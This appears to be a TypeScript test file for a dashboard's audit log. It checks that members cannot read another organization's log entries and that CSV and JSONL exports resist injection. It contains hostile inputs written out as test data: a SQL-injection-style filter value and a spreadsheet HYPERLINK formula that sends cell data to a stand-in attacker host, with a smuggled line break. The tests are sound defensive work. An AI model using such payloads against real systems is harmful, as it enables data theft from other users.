import { expect, test } from 'vitest';
import { sharedGateway } from '../support/attacker.ts';
import { type DashboardActor, memberOf, operatorOf, organizationOf } from '../support/dashboard.ts';
import type { TestGateway } from '../support/gateway.ts';

const gateway = sharedGateway();

/** An organization whose log has a secret in a name, and the reference of one of its refusals. */
async function victim(g: TestGateway) {
  const organization = await organizationOf(g, 'Victim');
  await g.gateway.audit.flush();
  const integrationId = 'int_VVVVVVVVVVVVVVVVVVVVVV';
  await g.gateway.auditStore.append(
    [
      {
        id: `evt_${organization.id.slice(4)}`,
        at: g.clock.now(),
        event: 'request.refused',
        organizationId: organization.id,
        integrationId,
        reference: 'SECRET01',
        detail: { code: 'victims-code' },
        personal: { address: '192.0.2.99' },
      },
    ],
    () => 'salt',
  );
  const [entry] = await g.gateway.auditLog
    .page((await operatorActor(g)).actor, { reference: 'SECRET01' })
    .then(({ entries }) => entries);
  return { organization, integrationId, sequence: entry?.sequence ?? 0 };
}

async function operatorActor(g: TestGateway) {
  const operator = await operatorOf(g);
  const actor = await g.gateway.organizations.actorIn('all', operator.userId, '');
  if (actor === undefined) throw new Error('an operator acts everywhere');
  return { operator, actor };
}

test('a member reads nothing of another organization’s log, by whatever filter, number, page or file', async () => {
  const g = gateway();
  const { organization, integrationId, sequence } = await victim(g);
  const own = await organizationOf(g, 'Own');
  const member: DashboardActor = await memberOf(g, own, 'owner');
  const here = `/dashboard/${own.id}/audit`;
  const there = `/dashboard/${organization.id}/audit`;
  const queries = [
    '',
    `?organization=${organization.id}`,
    `?organization=${organization.id}&organization=${own.id}`,
    `?reference=SECRET01`,
    `?integration=${integrationId}`,
    `?event=request.refused`,
    `?actor=cli`,
    `?before=9999999999999-999999`,
    `?organization=${encodeURIComponent(`${own.id}' or '1'='1`)}`,
    `?reference=SECRET0%25`,
  ];
  for (const query of queries) {
    for (const path of [here, `${here}/export.csv`, `${here}/export.jsonl`]) {
      const answer = await member.get(path + query);
      expect([path + query, answer.html.includes('victims-code')]).toEqual([path + query, false]);
      expect(answer.html).not.toContain('192.0.2.99');
      expect(answer.html).not.toContain(`audit/${sequence}"`);
    }
    for (const path of [
      there,
      `${there}/export.csv`,
      `${there}/export.jsonl`,
      '/dashboard/all/audit/export.csv',
    ]) {
      expect([path, (await member.get(path + query)).status]).toEqual([path, 404]);
    }
  }
  // Its number leads nowhere, exactly as one that no event has.
  const plain = (html: string) => html.replace(/<bdi>[0-9A-Z]{8}<\/bdi>/g, '');
  const foreign = await member.get(`${here}/${sequence}`);
  const nothing = await member.get(`${here}/999999`);
  expect([foreign.status, plain(foreign.html)]).toEqual([nothing.status, plain(nothing.html)]);
  expect(foreign.status).toBe(404);
  for (const odd of ['0', '-1', '1e3', '0x1', 'x', '99999999999999999999']) {
    expect((await member.get(`${here}/${odd}`)).status).toBe(404);
  }
  // Whoever may, finds it.
  const { operator } = await operatorActor(g);
  expect((await operator.get(`/dashboard/all/audit/export.csv?reference=SECRET01`)).html).toContain(
    'victims-code',
  );
});

test('a name that is a formula is text in the file, and no name makes another line', async () => {
  const g = gateway();
  const organization = await organizationOf(g);
  const member = await memberOf(g, organization, 'owner');
  const user = await g.gateway.people.userById(member.userId);
  if (user === undefined) throw new Error('a member is somebody');
  const name = '=HYPERLINK("https://evil.example?"&A1)\r\n1,2';
  await g.gateway.people.updateUser({
    ...user,
    givenName: name,
    familyName: undefined,
    version: user.version + 1,
  });
  const actor = await g.gateway.organizations.actorIn(organization.id, member.userId, '');
  if (actor === undefined) throw new Error('an owner acts');
  g.gateway.audit.by(actor).organizationCreated(organization.id, member.userId);
  await g.gateway.audit.flush();
  const { html } = await member.get(`/dashboard/${organization.id}/audit/export.csv`);
  expect(html).toContain(`"'=HYPERLINK(""https://evil.example?""&A1)`);
  expect(html).not.toMatch(/(^|,)"?=HYPERLINK/m);
  const { html: lines } = await member.get(`/dashboard/${organization.id}/audit/export.jsonl`);
  for (const line of lines.trim().split('\n')) expect(() => JSON.parse(line) as unknown).not.toThrow();
});
